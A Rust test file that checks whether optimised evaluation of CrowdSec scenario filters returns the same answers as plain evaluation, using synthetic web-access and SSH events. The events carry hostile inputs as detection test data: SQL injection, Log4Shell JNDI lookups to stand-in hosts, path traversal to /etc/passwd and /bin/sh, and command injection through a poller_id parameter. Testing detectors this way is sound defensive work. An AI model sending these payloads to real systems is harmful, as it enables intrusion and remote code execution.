//! The `filter` of every scenario of the hub snapshot (`../shared/hub`, or
//! `$CROWDSEC_SHARED/hub`) gives, on varied events, the same answer and side effects with the
//! fast paths (ASCII case comparisons, data list indexes) and a [`Memo`] shared by the filters
//! of one event as it gives without them: the reference registers `Upper`/`Lower` as plain
//! pure functions and evaluates each filter alone.

use std::path::PathBuf;

use cs_expr::{Effects, Environment, Function, Memo, Program, Signature, Type, Value, compile};
use cs_expr_helpers::{Helpers, strings};
use cs_types::Event;
use serde::Deserialize;

fn hub_dir() -> PathBuf {
    std::env::var_os("CROWDSEC_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared").into())
        .join("hub")
}

/// (name, filter) of every scenario document, with the data files they declare loaded into
/// `helpers` (files missing from the snapshot stay unloaded, as upstream warns and goes on).
fn scenario_filters(helpers: &Helpers) -> Vec<(String, String)> {
    let hub = hub_dir();
    let mut out = Vec::new();
    let mut dirs = vec![hub.join("scenarios")];
    while let Some(dir) = dirs.pop() {
        let mut entries: Vec<_> = std::fs::read_dir(&dir)
            .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
            .map(|e| e.expect("dir entry").path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                dirs.push(path);
                continue;
            }
            if path.extension().is_none_or(|x| x != "yaml") {
                continue;
            }
            let text = std::fs::read_to_string(&path).expect("scenario file");
            for doc in serde_yaml::Deserializer::from_str(&text) {
                let Ok(doc) = serde_yaml::Value::deserialize(doc) else {
                    continue;
                };
                let Some(filter) = doc["filter"].as_str() else {
                    continue;
                };
                for data in doc["data"].as_sequence().into_iter().flatten() {
                    let (file, kind) = (data["dest_file"].as_str(), data["type"].as_str());
                    let _ = helpers.data_files().load(
                        &hub.join("data"),
                        file.unwrap_or_default(),
                        kind.unwrap_or_default(),
                    );
                }
                let name = doc["name"]
                    .as_str()
                    .map_or_else(|| path.display().to_string(), str::to_owned);
                out.push((name, filter.to_owned()));
            }
        }
    }
    out
}

fn event(meta: &[(&str, &str)], parsed: &[(&str, &str)]) -> Event {
    let mut evt = Event::new_log("", "file");
    for (k, v) in meta {
        evt.set_meta(*k, *v);
    }
    for (k, v) in parsed {
        evt.set_parsed(*k, *v);
    }
    evt
}

/// An access-log event for `verb path?args` answered `status`.
fn access(verb: &str, path: &str, args: &str, status: &str, agent: &str) -> Event {
    let request = if args.is_empty() {
        path.to_owned()
    } else {
        format!("{path}?{args}")
    };
    let file_name = path.rsplit('/').next().unwrap_or_default();
    let file_dir = &path[..path.len() - file_name.len()];
    let (frag, ext) = file_name
        .rsplit_once('.')
        .map_or((file_name, String::new()), |(f, e)| (f, format!(".{e}")));
    event(
        &[
            ("log_type", "http_access-log"),
            ("service", "http"),
            ("http_path", &request),
            ("http_status", status),
            ("http_verb", verb),
            ("http_user_agent", agent),
            ("source_ip", "192.0.2.7"),
        ],
        &[
            ("request", &request),
            ("http_args", args),
            ("file_name", file_name),
            ("file_dir", file_dir),
            ("file_frag", frag),
            ("file_ext", &ext),
            ("http_user_agent", agent),
            ("http_referer", "https://example.org/"),
            ("verb", verb),
            ("static_ressource", "false"),
        ],
    )
}

fn events() -> Vec<Event> {
    let ff = "Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0";
    vec![
        access("GET", "/index.html", "", "200", ff),
        access("GET", "/wp-login.php", "", "404", ff),
        access(
            "POST",
            "/wp-admin/admin-ajax.php",
            "action=x",
            "403",
            "python-requests/2.31",
        ),
        access("GET", "/.env", "", "404", "curl/8.5.0"),
        access(
            "GET",
            "/search",
            "q=1%27%20UNION%20SELECT%201--",
            "200",
            "sqlmap/1.7",
        ),
        access(
            "GET",
            "/x",
            "a=${jndi:ldap://e.example/a}",
            "404",
            "${jndi:ldap://x/}",
        ),
        access("GET", "/PHPMYADMIN/Index.php", "lang=EN", "404", ff),
        access("GET", "/%2e%2e/%2E%2E/etc/passwd", "", "400", ff),
        access("GET", "/cgi-bin/.%2e/.%2e/bin/sh", "", "404", ff),
        access(
            "POST",
            "/remote_agent.php",
            "action=polldata&poller_id=1;id&host_id=1&local_data_ids[]=1",
            "200",
            ff,
        ),
        access("GET", "/ghost/api/admin/session", "", "404", ff),
        access("CONNECT", "http://proxy.example:443", "", "405", ff),
        // Non-ASCII text, some of which Go upper- or lower-cases to ASCII.
        access("GET", "/admın/clasſ.module.classLoader.x", "", "404", ff),
        access("GET", "/été/\u{212a}ey/İndex.php", "q=é", "404", "Mözilla"),
        access("pöst", "/ſap/bc/gui/ſap/its/webgui", "", "403", ff),
        event(
            &[
                ("log_type", "ssh_failed-auth"),
                ("service", "ssh"),
                ("target_user", "root"),
            ],
            &[],
        ),
        event(&[("log_type", "http_error-log"), ("service", "http")], &[]),
        event(&[], &[]),
    ]
}

fn render(r: Result<Value<'_>, cs_expr::RuntimeError>, fx: &Effects) -> String {
    match r {
        Ok(v) => format!("{} {:?}", cs_expr::format::format_v(&v), fx.0),
        Err(e) => format!("error: {} {:?}", e.message(), fx.0),
    }
}

fn compile_all(env: &Environment, filters: &[(String, String)]) -> Vec<Program> {
    filters
        .iter()
        .map(|(name, src)| compile(src, env).unwrap_or_else(|e| panic!("{name}: {e}")))
        .collect()
}

#[test]
fn fast_paths_and_memos_answer_what_plain_evaluation_answers() {
    let hub = hub_dir();
    assert!(
        hub.join("scenarios").is_dir(),
        "hub snapshot not found at {}",
        hub.display()
    );
    let helpers = Helpers::new();
    let filters = scenario_filters(&helpers);
    assert!(filters.len() > 50, "{} filters", filters.len());

    let mut fast_env = Environment::event();
    helpers.register(&mut fast_env);
    let mut plain_env = fast_env.clone();
    for (name, f) in [
        ("Upper", strings::upper as fn(&str) -> String),
        ("Lower", strings::lower),
    ] {
        plain_env.add_function(
            Function::new(
                name,
                Signature::new([Type::String], Type::String),
                move |args, _| Ok(Value::string(f(args[0].as_str().unwrap_or_default()))),
            )
            .pure(),
        );
    }
    let fast = compile_all(&fast_env, &filters);
    let plain = compile_all(&plain_env, &filters);

    let mut memo = Memo::new();
    let mut accepted = 0;
    for evt in events() {
        memo.clear();
        let vars = [Value::object(&evt)];
        for (i, (name, _)) in filters.iter().enumerate() {
            let (mut fx_fast, mut fx_plain) = (Effects::new(), Effects::new());
            let got = render(fast[i].run_memo(&vars, &mut fx_fast, &mut memo), &fx_fast);
            let want = render(plain[i].run(&vars, &mut fx_plain), &fx_plain);
            assert_eq!(got, want, "{name} on {:?} {:?}", evt.meta, evt.parsed);
            accepted += usize::from(got.starts_with("true"));
        }
    }
    // The events do reach the scenarios' fast paths.
    assert!(accepted > 20, "{accepted} filters accepted an event");
}
